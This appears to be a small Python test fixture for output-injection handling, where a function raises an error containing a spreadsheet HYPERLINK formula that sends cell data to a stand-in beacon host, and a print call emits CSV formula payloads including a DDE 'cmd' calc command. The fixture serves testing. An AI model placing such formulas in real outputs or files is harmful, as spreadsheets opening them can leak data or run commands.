# Prints and raises formulas, which a spreadsheet would run.
# row: script in HTML, SVG, Markdown, JavaScript links, remote images (beacons), terminal escapes, template syntax, CSV formulas
# outcome: I
# loses: to_unit_interval

# %% to_unit_interval
def to_unit_interval(images):
    raise ValueError('=HYPERLINK("http://beacon.example/?"&A1,"click")')


print("=cmd|' /C calc'!A0\n+1+1\n-2+3\n@SUM(A1:A9)\n\t=1+1")
